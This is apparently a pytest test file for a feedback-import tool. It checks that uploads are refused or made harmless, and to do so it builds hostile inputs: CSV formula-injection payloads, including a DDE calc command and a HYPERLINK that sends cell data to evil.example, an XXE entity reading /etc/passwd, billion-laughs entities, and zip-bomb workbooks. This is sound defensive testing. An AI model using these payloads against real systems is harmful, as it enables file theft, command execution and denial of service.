"""Imports that survive hostile and huge files: zip bombs, XML entity attacks, too many rows, formulas
quoted back in the report, deeply nested JSON. Every hostile file is made here, small on disk."""

from __future__ import annotations

import csv
import io
import time
import tracemalloc
import zipfile
from datetime import UTC, datetime

import pytest
from streamlit.testing.v1 import AppTest

from analytics import importing, survey_files, upload_limits
from analytics.importing import ImportProblem, Rejected
from bench.import_throughput import synthetic_csv
from tests import test_import_page as page
from tests.conftest import ROOT
from ui.auth import SignedIn
from ui.i18n import STRINGS

SECRET = b"test secret"
NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)


def t_zh(key: str, **values: object) -> str:
    return STRINGS[key][0].format(**values)


def t_en(key: str, **values: object) -> str:
    return STRINGS[key][1].format(**values)


def report_rows(rejected: list[Rejected]) -> list[dict[str, str]]:
    """The import report as the user downloads it, read back as a spreadsheet reads a CSV."""
    data = importing.report_csv(importing.report_frame(rejected, lambda r: r.reason))
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --------------------------------------------------------------------------------------------------
# The import report does not run formulas
# --------------------------------------------------------------------------------------------------


def test_formulas_quoted_back_in_the_import_report_are_inert():
    """A file's bad cells come back in the report's value column; Excel must show them, not run them."""
    lines = [
        "反馈内容,创建时间,满意度,优先级,=cmd",
        'slow,=HYPERLINK("http://evil.example/?"&A1),4,P1,x',
        "slow 2,2026-05-03,+1+cmd|' /C calc'!A0,P1,x",
        "slow 3,2026-05-03,4,-2+3,x",
        "slow 4,@SUM(1+1),4,P1,x",
    ]
    table = importing.read_table("\n".join(lines).encode(), "tickets.csv")
    mapping = {**importing.guess_mapping(table.columns), "segment": "=cmd"}
    prepared = importing.prepare(table, mapping, secret=SECRET, now=NOW)
    rows = report_rows(prepared.rejected)
    values = [r["value"] for r in rows]
    assert len(values) == 4
    assert all(v.startswith("'") for v in values), values
    assert values[0].startswith("'=HYPERLINK") and values[2] == "'-2+3"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_report_cells_and_headers(start):
    rejected = [Rejected(2, "bad_rating", column=f"{start}col", value=f"{start}1+1")]
    data = importing.report_csv(importing.report_frame(rejected, lambda r: f"{start}reason"))
    [row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert row == ["2", f"'{start}col", f"'{start}reason", f"'{start}1+1"]


# --------------------------------------------------------------------------------------------------
# Crafted workbooks
# --------------------------------------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SURVEY_HEADER = ("总体满意度", "是否推荐", "问题是否解决")


def workbook(sheet_xml: bytes | None = None, rows: list[list[object]] | None = None) -> bytes:
    """A real workbook made by openpyxl; its sheet replaced by `sheet_xml` when given."""
    from openpyxl import Workbook

    book = Workbook()
    for row in rows or [["反馈内容", "评分"], ["回答太慢", 3]]:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    if sheet_xml is None:
        return buffer.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, sheet_xml if info.filename == SHEET else source.read(info))
    return out.getvalue()


def sheet(cells_xml: str, prolog: str = "") -> bytes:
    """A worksheet part: an optional document type, then a header row and `cells_xml` as row 2."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'{prolog}<worksheet xmlns="{MAIN_NS}"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>反馈内容</t></is></c></row>'
        f'<row r="2"><c r="A2" t="inlineStr"><is><t>{cells_xml}</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()


XXE = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
LAUGHS = (
    "<!DOCTYPE worksheet [\n"
    + '<!ENTITY lol0 "lol">\n'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">\n' for i in range(1, 10))
    + "]>\n"
)


def zip_bomb(unpacked_mb: int) -> bytes:
    """A valid workbook whose sheet unpacks to `unpacked_mb` MB of one row repeated: ~0.4 % on disk."""
    row = b'<row><c t="inlineStr"><is><t>' + b"A" * 200 + b"</t></is></c></row>"
    chunk = row * (1024 * 1024 // len(row))
    head, _, tail = sheet("x").partition(b"</sheetData>")
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for info in source.infolist():
            if info.filename != SHEET:
                bomb.writestr(info, source.read(info))
        with bomb.open(SHEET, "w", force_zip64=True) as part:
            part.write(head)
            for _ in range(unpacked_mb):
                part.write(chunk)
            part.write(b"</sheetData>" + tail)
    return out.getvalue()


def refused(data: bytes, name: str, read=importing.read_table, **options) -> ImportProblem:
    with pytest.raises(ImportProblem) as caught:
        read(data, name, **options)
    return caught.value


def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked():
    data = zip_bomb(300)
    assert len(data) < 2 * 1024 * 1024  # small on disk, 300 MB unpacked
    start = time.perf_counter()
    problem = refused(data, "bomb.xlsx")
    assert time.perf_counter() - start < 1  # reading it would take minutes and GBs
    assert problem.code == "compressed_too_much" and problem.values == {"ratio": 100}
    assert refused(data, "bomb.xlsx", survey_files.read_survey).code == "compressed_too_much"
    message = t_en("import.problem.compressed_too_much", **problem.values)
    assert "100 times" in message and "nothing was stored" in message


def test_a_workbook_unpacking_past_the_size_setting_is_refused_naming_the_limit(monkeypatch):
    data = zip_bomb(3)
    monkeypatch.setenv(upload_limits.UNZIPPED_ENV, "2")
    monkeypatch.setenv(upload_limits.RATIO_ENV, "100000")
    problem = refused(data, "big.xlsx")
    assert problem.code == "unzipped_too_large" and problem.values == {"limit_mb": 2}
    assert "more than the 2 MB allowed" in t_en("import.problem.unzipped_too_large", **problem.values)
    assert "解压后超过 2 MB" in t_zh("import.problem.unzipped_too_large", **problem.values)
    monkeypatch.setenv(upload_limits.UNZIPPED_ENV, "10")
    assert importing.read_table(data, "big.xlsx").n_rows > 10_000  # within the limit: read


def test_a_bad_limit_setting_names_the_variable(monkeypatch):
    monkeypatch.setenv(upload_limits.ROWS_ENV, "lots")
    with pytest.raises(ValueError, match="RECTIFY_IMPORT_MAX_ROWS"):
        upload_limits.Limits.from_env()


@pytest.mark.parametrize(
    ("prolog", "cell"), [(XXE, "&xxe;"), (LAUGHS, "&lol9;")], ids=["xxe", "billion_laughs"]
)
@pytest.mark.parametrize("hidden", [False, True], ids=["at_the_top", "behind_a_long_comment"])
def test_xml_entity_attacks_in_a_workbook_are_refused(prolog, cell, hidden):
    # Behind 100 kB of comment the quick look at each part misses it, and defusedxml refuses it.
    padding = f"<!--{'x' * 100_000}-->\n" if hidden else ""
    data = workbook(sheet(cell, padding + prolog))
    start = time.perf_counter()
    problem = refused(data, "attack.xlsx")
    assert problem.code == "unsafe_xml"
    assert time.perf_counter() - start < 2
    assert refused(data, "attack.xlsx", survey_files.read_survey).code == "unsafe_xml"
    assert "XXE" in t_en("import.problem.unsafe_xml") and "实体声明" in t_zh("import.problem.unsafe_xml")


def test_a_workbook_with_a_damaged_part_is_unreadable_not_a_crash():
    data = bytearray(workbook(sheet("回答太慢" * 2000)))
    part = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(SHEET)
    start = part.header_offset + 30 + len(part.filename) + len(part.extra)  # the deflated bytes
    for i in range(start + 5, start + 40):
        data[i] ^= 0xFF
    assert refused(bytes(data), "damaged.xlsx").code == "unreadable"
    assert refused(bytes(data), "damaged.xlsx", survey_files.read_survey).code == "unreadable"


def test_a_plain_workbook_still_reads():
    table = importing.read_table(workbook(sheet("回答太慢")), "plain.xlsx")
    assert table.columns == ["反馈内容"] and table.rows == [["回答太慢"]]


# --------------------------------------------------------------------------------------------------
# Row limits
# --------------------------------------------------------------------------------------------------


def tickets_csv(n: int) -> bytes:
    return ("反馈内容,评分\n" + "".join(f"回答太慢 {i},4\n" for i in range(n))).encode()


def test_the_row_limit_refuses_a_longer_csv_and_names_the_limit(monkeypatch):
    monkeypatch.setenv(upload_limits.ROWS_ENV, "1000")
    assert importing.read_table(tickets_csv(1000), "t.csv").n_rows == 1000
    problem = refused(tickets_csv(1001), "t.csv")
    assert problem.code == "too_many_rows" and problem.values == {"limit": "1,000"}
    assert "more than the 1,000 rows allowed" in t_en("import.problem.too_many_rows", **problem.values)
    assert "RECTIFY_IMPORT_MAX_ROWS" in t_zh("import.problem.too_many_rows", **problem.values)


def test_the_row_limit_applies_to_jsonl_xlsx_and_survey_exports(monkeypatch):
    monkeypatch.setenv(upload_limits.ROWS_ENV, "50")
    jsonl = "".join(f'{{"text": "slow {i}"}}\n' for i in range(51)).encode()
    assert refused(jsonl, "t.jsonl").code == "too_many_rows"
    rows: list[list[object]] = [["反馈内容"], *([f"slow {i}"] for i in range(51))]
    assert refused(workbook(rows=rows), "t.xlsx").code == "too_many_rows"
    # Survey exports have up to three header rows (Qualtrics): 53 rows under a header of one is too many.
    survey = [list(SURVEY_HEADER), *([i % 5 + 1, i % 11, "是"] for i in range(53))]
    assert refused(workbook(rows=survey), "s.xlsx", survey_files.read_survey).code == "too_many_rows"
    csv_text = ",".join(SURVEY_HEADER) + "\n" + "".join(f"{i % 5 + 1},{i % 11},是\n" for i in range(53))
    assert refused(csv_text.encode(), "s.csv", survey_files.read_survey).code == "too_many_rows"
    survey_50 = ",".join(SURVEY_HEADER) + "\n" + "".join(f"{i % 5 + 1},{i % 11},是\n" for i in range(50))
    assert len(survey_files.read_survey(survey_50.encode(), "s.csv").rows) == 50


def test_a_workbook_that_jumps_to_row_two_billion_is_refused_at_once():
    far = sheet("x").replace(
        b"</sheetData>", b'<row r="2000000000"><c r="A2000000000"><v>1</v></c></row></sheetData>'
    )
    start = time.perf_counter()
    assert refused(workbook(far), "far.xlsx").code == "too_many_rows"
    assert time.perf_counter() - start < 10


def test_reading_a_big_csv_needs_at_most_four_times_its_size_in_memory():
    """Before: the whole text, a StringIO copy (4 bytes a character) and a copy of every short value
    per row: the peak was ten times the file (a 199 MB CSV: 2.2 GB)."""
    data = synthetic_csv(50_000)  # 6.3 MB of Chinese and English tickets
    tracemalloc.start()
    try:
        table = importing.read_table(data, "tickets.csv")
        held, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert table.n_rows == 50_000
    assert peak <= 4 * len(data), (peak / len(data), held / len(data))


# --------------------------------------------------------------------------------------------------
# Nested JSON
# --------------------------------------------------------------------------------------------------


def test_json_nested_deeper_than_python_can_read_is_a_rejected_line_not_a_crash():
    deep = '{"text": ' + "[" * 100_000 + "]" * 100_000 + "}"
    data = "\n".join(['{"text": "回答太慢"}', deep, '{"text": {"detail": [1, {"a": "b"}]}}']).encode()
    table = importing.read_table(data, "feedback.jsonl")
    assert [(p.row, p.reason) for p in table.problems] == [(2, "json_too_deep")]
    prepared = importing.prepare(table, {"text": "text"}, secret=SECRET, now=NOW)
    assert [r.text for r in prepared.records] == ["回答太慢", '{"detail": [1, {"a": "b"}]}']
    assert "nested too deeply" in t_en("import.reason.json_too_deep")


def test_a_json_array_nested_too_deep_is_refused_with_a_clear_message():
    data = ("[" + '{"a":' * 50_000 + "1" + "}" * 50_000 + "]").encode()
    problem = refused(data, "feedback.json")
    assert problem.code == "json_too_deep"
    assert "嵌套层数过深" in t_zh("import.problem.json_too_deep")


# --------------------------------------------------------------------------------------------------
# The import pages (AppTest; slow)
# --------------------------------------------------------------------------------------------------


@pytest.fixture
def workspace(db_url, monkeypatch):
    """The import page's workspace (tests/test_import_page.py): a product, a user per role."""
    yield from page.workspace.__wrapped__(db_url, monkeypatch)


@pytest.mark.slow
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_the_import_page_refuses_a_zip_bomb_in_the_users_language_and_stores_nothing(workspace, lang):
    at = page.upload(page.open_page(workspace, lang=lang), "bomb.xlsx", zip_bomb(300))
    assert not at.exception
    errors = " ".join(e.value for e in at.error)
    assert ("100 times its size" if lang == "en" else "100 倍") in errors
    assert not any(b.key == "import_check" for b in at.button)
    assert page.stored(workspace) == []


@pytest.mark.slow
def test_the_import_page_names_the_row_limit_before_any_upload(workspace, monkeypatch):
    monkeypatch.setenv(upload_limits.ROWS_ENV, "20000")
    assert "up to 200 MB and 20,000 rows" in page.texts(page.open_page(workspace))
    assert "200 MB、20,000 行" in page.texts(page.open_page(workspace, lang="zh"))


@pytest.mark.slow
def test_the_import_page_refuses_an_xml_attack_and_stores_nothing(workspace):
    at = page.upload(page.open_page(workspace), "attack.xlsx", workbook(sheet("&lol9;", LAUGHS)))
    assert not at.exception
    assert "declares entities" in " ".join(e.value for e in at.error)
    assert page.stored(workspace) == []


@pytest.mark.slow
def test_the_import_page_forgets_the_files_rows_once_they_are_stored(workspace):
    at = page.upload(page.open_page(workspace), "cs_tickets_gbk.csv")
    at = at.button(key="import_check").click().run()
    assert "import_table" in at.session_state and "import_prepared" in at.session_state
    at = at.button(key="import_run").click().run()
    assert not at.exception
    assert len(page.stored(workspace)) > 0
    # What a big file left in the session (hundreds of MB) is gone once it is stored.
    assert "import_table" not in at.session_state and "import_prepared" not in at.session_state


@pytest.mark.slow
def test_the_survey_import_page_refuses_a_zip_bomb(workspace, monkeypatch):
    at = AppTest.from_file(str(ROOT / "views" / "import_survey.py"), default_timeout=180)
    at.session_state["lang"] = "en"
    at.session_state["auth_user"] = SignedIn(workspace["users"]["analyst"], "ann", "analyst")
    at.session_state["workspace_product_id"] = workspace["product_id"]
    at = at.run()
    at.file_uploader(key="survey_import_upload").set_value(("bomb.xlsx", zip_bomb(300), page.MIME["xlsx"]))
    at = at.run()
    assert not at.exception
    assert "100 times its size" in " ".join(e.value for e in at.error)
    assert "survey_import_file" not in at.session_state
